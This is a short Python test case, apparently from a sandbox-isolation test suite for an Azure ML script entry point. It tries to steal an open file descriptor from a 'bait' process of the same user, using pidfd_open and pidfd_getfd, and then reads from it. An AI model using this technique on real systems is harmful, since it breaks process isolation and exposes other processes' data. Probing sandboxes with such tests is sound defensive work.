"""Takes an open file of another process of the same user for itself."""

import os

from attack import BAIT, attack, call, told


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    process = call("pidfd_open", BAIT["process_pid"], 0)
    stolen = call("pidfd_getfd", process, BAIT["process_descriptor"], 0)
    return told("a stolen descriptor", os.pread(stolen, 200, 0))
